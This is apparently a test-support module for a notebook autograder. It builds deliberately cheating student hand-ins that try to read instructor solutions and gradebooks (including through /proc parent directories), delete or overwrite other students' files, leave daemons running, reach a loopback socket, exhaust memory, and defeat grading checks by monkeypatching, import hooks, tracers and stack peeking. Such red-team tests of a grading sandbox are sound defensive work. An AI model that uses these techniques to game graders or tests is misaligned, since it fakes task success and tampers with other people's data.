"""Cheating hand-ins of chapter 1, and a stock grader to show that each cheat is real.

Every cheat is an ordinary hand-in (some exercises right, the others wrong, or the untouched
stubs) plus code that tries to get more than that honest code earns: read the instructor's
files, write outside its folder, leave processes behind, reach the network or rnnkit's own
reference, or defeat the checks. What a cheat saw or managed it prints in its cell's output,
one line starting with its TAG, so that the tests can read it from the autograded notebook.

`stock_points` grades a hand-in the way stock nbgrader does, with the hidden tests in the
notebook's own interpreter (an IPython shell) and the real rnnkit importable: the cheats that
defeat the checks earn more there than their honest code, which proves they would work if
`make grade` ran the tests where the notebook runs.
"""
import json
import os
import socket
import subprocess
import sys
import textwrap
import threading

from grading_course import REPO, right, submission

POINTS = {"test_rnn_step_forward": 2, "test_rnn_forward": 3, "test_one_hot": 1,
          "test_softmax": 2, "test_hello_forward": 2}

WRONG = {
    "rnn_step_forward": """
        def rnn_step_forward(x, h_prev, U, W, b):
            h = x @ U.T + h_prev @ W.T + b     # the tanh is missing
            return h, (x, h_prev, h, U, W)
        """,
    "rnn_forward": """
        def rnn_forward(x, h0, U, W, b):
            states = [rnn_step_forward(x[:, t], h0, U, W, b)[0] for t in range(x.shape[1])]
            return np.stack(states, axis=1), None   # every step starts from h0
        """,
    "one_hot": """
        def one_hot(indices, n):
            return (np.asarray(indices)[..., None] == np.arange(n)).astype(int)
        """,
    "softmax": """
        def softmax(z, axis=-1):
            e = np.exp(z)    # overflows for large scores
            return e / e.sum(axis=axis, keepdims=True)
        """,
    "hello_forward": """
        def hello_forward(U, W, b_h, V, b_o):
            x = np.eye(4)[[0, 1, 2, 2]]
            h, out = np.zeros(W.shape[0]), []
            for t in range(4):
                h = np.tanh(U @ x[t] + W @ h + b_h)
                s = V @ h + b_o
                out.append(np.exp(s) / np.exp(s).sum())   # probabilities, not scores
            return np.array(out)[None]
        """,
}


def one_right(solutions, released, insert=(), code=None):
    """rnn_step_forward right (2 points), every other exercise wrong; `insert` adds cells
    right after the setup cell, `code` replaces solution cells."""
    answers = {**WRONG, "rnn_step_forward": right(solutions, "rnn_step_forward"),
               **(code or {})}
    return submission(released, answers, insert=[(2 + i, text) for i, text in enumerate(insert)])


def all_right(solutions, released, insert=(), code=None):
    """Every exercise right (10 points) plus the cells of `insert` after the setup cell."""
    answers = {name: right(solutions, name) for name in WRONG}
    return submission(released, {**answers, **(code or {})},
                      insert=[(2 + i, text) for i, text in enumerate(insert)])


def printed(nb, tag):
    """What the cell of `nb` that printed `TAG {...}` reported (parsed JSON), or None."""
    for c in nb.cells:
        for out in c.get("outputs", []):
            for line in out.get("text", "").splitlines():
                if line.startswith(tag + " "):
                    return json.loads(line[len(tag) + 1:])
    return None


def constants(**values):
    return "".join(f"{name} = {value!r}\n" for name, value in values.items())


# ------------------------------------------------------------ 1. reading instructor files

def reader_cell(course, victim):
    """Tries to read the instructor's notebook (relative to where a hand-in usually lies,
    and by absolute paths), the gradebook, another student's hand-in, the real rnnkit, and
    the gradebook in the working folder of every process above the kernel (the grader's)."""
    return constants(COURSE=str(course), REPO=str(REPO), VICTIM=victim) + textwrap.dedent("""
        import json, os

        def attempt(path):
            try:
                with open(path, "rb") as fh:
                    return len(fh.read())
            except OSError as e:
                return type(e).__name__

        targets = ["../../../solutions/ch01/ch01.ipynb", "../../solutions/ch01/ch01.ipynb",
                   "../../../gradebook.db", COURSE + "/solutions/ch01/ch01.ipynb",
                   COURSE + "/gradebook.db", COURSE + "/release/ch01/ch01.ipynb",
                   COURSE + f"/submitted/{VICTIM}/ch01/ch01.ipynb",
                   REPO + "/solutions/ch01/ch01.ipynb", REPO + "/rnnkit/rnn.py"]
        pid = os.getpid()
        for _ in range(8):      # up the process tree: the grader's folder is the course
            try:
                with open(f"/proc/{pid}/stat") as fh:
                    pid = int(fh.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
            if pid <= 0:
                break
            targets.append(f"/proc/{pid}/cwd/gradebook.db")
        print("CHEAT-READ " + json.dumps({t: attempt(t) for t in targets}))
        """)


# ------------------------------------------------------------ 2. writing outside its folder

def writer_cell(course, victim, remove=("gradebook.db",), relative=True):
    """Tries to delete course files (`remove`, relative to the course), to overwrite another
    student's hand-in and feedback page and to leave a file in the course root, by absolute
    paths and (`relative`) by the path that reaches the course root from the folder of an
    autograded notebook."""
    return constants(COURSE=str(course), VICTIM=victim, REMOVE=list(remove),
                     RELATIVE=relative) + textwrap.dedent("""
        import json, os
        done = {}

        def attempt(label, action):
            try:
                action()
                done[label] = "done"
            except OSError as e:
                done[label] = type(e).__name__

        def overwrite(path, text):
            with open(path, "w") as fh:
                fh.write(text)

        for name in REMOVE:
            attempt("remove " + name, lambda: os.remove(COURSE + "/" + name))
        attempt("overwrite hand-in", lambda: overwrite(
            COURSE + f"/submitted/{VICTIM}/ch01/ch01.ipynb", '{"cells": []}'))
        attempt("overwrite feedback", lambda: overwrite(
            COURSE + f"/feedback/{VICTIM}/ch01/ch01.html", "<h1>cheated</h1>"))
        attempt("new file", lambda: overwrite(COURSE + "/PWNED.txt", "cheated"))
        if RELATIVE:
            attempt("relative", lambda: overwrite("../../../PWNED.txt", "cheated"))
        print("CHEAT-WRITE " + json.dumps(done))
        """)


# ------------------------------------------------------------ 3. background processes

DAEMON = """import os, sys, time
if os.fork():
    sys.exit()
os.setsid()
if os.fork():
    sys.exit()
while True:
    try:
        with open(sys.argv[1] + "/LATE.txt", "a") as fh:
            fh.write("written after grading\\n")
    except OSError:
        pass
    time.sleep(0.2)
"""


WHERE = """
import json, os, sys
print("CHEAT-WHERE " + json.dumps({
    "namespace": os.readlink("/proc/self/ns/pid"),
    # the kernel's connection file lies in the folder of this hand-in's grading, a path
    # that the command line of every process of its sandbox (bwrap, sh, kernel) holds
    "run": os.path.dirname(os.path.abspath(sys.argv[sys.argv.index("-f") + 1]))}))
"""


def spawner_cell(course, marker):
    """Starts `sleep <marker>` in a session of its own and a daemon (double fork, setsid)
    that keeps appending to COURSE/LATE.txt."""
    return constants(COURSE=str(course), MARKER=marker, DAEMON=DAEMON) + textwrap.dedent("""
        import json, subprocess, sys
        sleeper = subprocess.Popen(["sleep", MARKER], start_new_session=True)
        subprocess.Popen([sys.executable, "-c", DAEMON, COURSE, MARKER], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        print("CHEAT-SPAWN " + json.dumps({"sleeper": sleeper.pid}))
        """)


def processes_with(text):
    """PIDs of the processes whose command line holds `text` (a marker, a folder)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                argv = fh.read()
        except OSError:
            continue
        if text.encode() in argv:
            found.append(int(entry))
    return found


def command(pid):
    """The name of the program process `pid` runs ('' once it is gone)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            return os.path.basename(fh.read().split(b"\0")[0].decode())
    except OSError:
        return ""


# ------------------------------------------------------------ 4. rnnkit's reference

def copycat(repo=REPO):
    """Every exercise through rnnkit's own reference, by a different route each; hello_forward
    is honest but builds on the others."""
    real = str(repo / "rnnkit")
    return {
        # load the real package from its files, under another name
        "rnn_step_forward": constants(REAL=real) + textwrap.dedent("""
            import importlib.util, sys
            def rnn_step_forward(x, h_prev, U, W, b):
                spec = importlib.util.spec_from_file_location(
                    "realkit", REAL + "/__init__.py", submodule_search_locations=[REAL])
                realkit = importlib.util.module_from_spec(spec)
                sys.modules["realkit"] = realkit
                spec.loader.exec_module(realkit)
                return realkit.rnn.rnn_step_forward(x, h_prev, U, W, b)
            """),
        # reload rnnkit (maybe it comes back whole), then import the module
        "rnn_forward": """
            import importlib
            import rnnkit
            def rnn_forward(x, h0, U, W, b):
                importlib.reload(rnnkit)
                import rnnkit.rnn as real
                return real.rnn_forward(x, h0, U, W, b)
            """,
        "one_hot": """
            def one_hot(indices, n):
                from rnnkit.functional import one_hot as reference
                return reference(indices, n)
            """,
        # point the package at the real rnnkit's folder, then import from it
        "softmax": constants(REAL=real) + textwrap.dedent("""
            import rnnkit
            def softmax(z, axis=-1):
                rnnkit.__path__.append(REAL)
                from rnnkit.functional import softmax as reference
                return reference(z, axis=axis)
            """),
    }


def exec_source(repo=REPO):
    """softmax run from the real rnnkit's source file, exec'd into the notebook."""
    return constants(SOURCE=str(repo / "rnnkit" / "functional.py")) + textwrap.dedent("""
        def softmax(z, axis=-1):
            scope = {}
            with open(SOURCE) as fh:
                exec(fh.read(), scope)
            return scope["softmax"](z, axis=axis)
        """)


# ------------------------------------------------------------ 5. defeating the checks
# Each works when the hidden tests run in the notebook's interpreter (stock_points).

REPLACE_CHECK_ARRAY = """
from rnnkit import grading
import rnnkit.grading.checks
grading.check_array = lambda *args, **kwargs: None
rnnkit.grading.checks.check_array = grading.check_array
"""

FAKE_MODULE = """
import sys, types
import rnnkit, rnnkit.grading
fake = types.ModuleType("rnnkit.grading")
fake.__dict__.update(vars(rnnkit.grading))
fake.check_array = lambda *args, **kwargs: None
sys.modules["rnnkit.grading"] = fake
rnnkit.grading = grading = fake
"""

FAKE_NUMPY = """
import numpy
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.subtract = lambda a, b, *args, **kwargs: numpy.zeros(numpy.broadcast(a, b).shape)
"""

FAKE_IMPORT = """
import builtins, types
_real_import = builtins.__import__
_fake = types.ModuleType("rnnkit.grading")

def _patched_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if name == "rnnkit" and fromlist and "grading" in fromlist:
        if not hasattr(_fake, "call"):
            _fake.__dict__.update(vars(module.grading))
            _fake.check_array = lambda *args, **kwargs: None
        proxy = types.ModuleType("rnnkit")
        proxy.__dict__.update(vars(module))
        proxy.grading = _fake
        return proxy
    return module

builtins.__import__ = _patched_import
"""

INPUT_TRANSFORMER = """
def _no_checks(lines):
    return [line.replace("grading.check_array(", "(lambda *args, **kwargs: None)(")
            for line in lines]

get_ipython().input_transformers_cleanup.append(_no_checks)
"""

TRACER = """
import sys, threading

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "check_array":
        frame.f_locals["got"] = frame.f_locals["expected"]   # written back after the call event
    return None

sys.settrace(_tracer)
threading.settrace(_tracer)
"""

PEEK = """
import sys

def _peek():
    \"\"\"The caller's `expected`, found by walking up the stack.\"\"\"
    frame = sys._getframe(2)
    while frame is not None:
        found = frame.f_locals.get("expected")
        if hasattr(found, "shape"):
            return found
        frame = frame.f_back
    return None
"""


def peeking(solutions, name):
    """The wrong answer to `name`, first returning the test's expected value when it can find
    it up the stack."""
    code = textwrap.dedent(WRONG[name]).strip().splitlines()
    header, body = code[0], code[1:]
    first = "    seen = _peek()\n    if seen is not None:\n        return " + \
        ("(seen, [])" if name == "rnn_forward" else "seen") + "\n"
    return header + "\n" + first + "\n".join(body) + "\n"


def check_cheats(solutions, released):
    """student -> hand-in: rnn_step_forward right, the rest wrong, and one way to defeat the
    checks. Honest points: 2 each; with the tests in the notebook's interpreter: 10."""
    return {
        "fake_check_array": one_right(solutions, released, [REPLACE_CHECK_ARRAY]),
        "fake_module": one_right(solutions, released, [FAKE_MODULE]),
        "fake_numpy": one_right(solutions, released, [FAKE_NUMPY]),
        "fake_import": one_right(solutions, released, [FAKE_IMPORT]),
        "transformer": one_right(solutions, released, [INPUT_TRANSFORMER]),
        "tracer": one_right(solutions, released, [TRACER]),
        "peeker": one_right(solutions, released, [PEEK], code={
            name: peeking(solutions, name)
            for name in ["rnn_forward", "one_hot", "softmax", "hello_forward"]}),
    }


# ------------------------------------------------------------ 6. network

def network_cell(port):
    return constants(PORT=port) + textwrap.dedent("""
        import json, socket
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
                s.sendall(b"a hand-in got through")
            outcome = "connected"
        except OSError as e:
            outcome = type(e).__name__
        print("CHEAT-NET " + json.dumps(outcome))
        """)


# ------------------------------------------------------------ 7., 8. memory, stderr

MEMORY_HOG = """
big = np.ones(int(6e9 / 8))    # 6 GB
"""

# more than MEMORY (2048 MB by default), less than the cap on the grader's own workers
MEMORY_HOG_3GB = """
medium = np.ones(int(3e9 / 8))    # 3 GB
"""

AFTER_HOG = """
import json
print("CHEAT-ALIVE " + json.dumps("the kernel still runs"))
"""

NOISY_STEP = """
import sys, warnings

def rnn_step_forward(x, h_prev, U, W, b):
    print("debugging rnn_step_forward", x.shape, file=sys.stderr)
    warnings.warn("a warning of the student's own")
    h = np.tanh(x @ U.T + h_prev @ W.T + b)
    return h, (x, h_prev, h, U, W)
"""

NOISY_CELL = """
import sys, warnings
print("a line on stderr", file=sys.stderr)
warnings.warn("another warning")
"""


# ------------------------------------------------------------ stock grading, for contrast

_STOCK = r"""
import contextlib, io, json, sys
from IPython.core.interactiveshell import InteractiveShell

shell = InteractiveShell.instance()
scores = {}
for code, test, points in json.load(open(sys.argv[1])):
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        result = shell.run_cell(code, store_history=True)
    if test:
        scores[test] = points if result.success else 0.0
sys.__stdout__.write("STOCK " + json.dumps(scores) + "\n")
"""


def stock_points(source, handins, folder):
    """{student: {grade_id: points}} when each hand-in's hidden tests run in its own
    interpreter, as stock nbgrader runs them: the hand-in's cells in order (test cells as the
    instructor wrote them, hidden tests included) in one IPython shell per hand-in, with the
    real rnnkit importable. `source` is a judge.Source."""
    from rnnkit.grading import judge
    folder.mkdir(parents=True, exist_ok=True)
    running = {}
    for student, nb in handins.items():
        nb, _ = judge.sanitize(nb, source)
        cells = [[c.source, c.metadata.nbgrader["grade_id"] if judge.is_test(c) else None,
                  float(c.metadata.get("nbgrader", {}).get("points", 0))]
                 for c in nb.cells if c.cell_type == "code"]
        path = folder / f"{student}.json"
        path.write_text(json.dumps(cells))
        running[student] = subprocess.Popen([sys.executable, "-c", _STOCK, str(path)],
                                            cwd=folder, stdout=subprocess.PIPE,
                                            stderr=subprocess.PIPE, text=True)
    scores = {}
    for student, proc in running.items():
        out, err = proc.communicate(timeout=300)
        lines = [line for line in out.splitlines() if line.startswith("STOCK ")]
        assert lines, f"stock grading of {student} failed:\n{out[-2000:]}\n{err[-2000:]}"
        scores[student] = json.loads(lines[-1][len("STOCK "):])
    return scores


class Listener:
    """A TCP server on the host's loopback that records what every connection sends."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    self.received.append(conn.recv(1000))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.sock.close()
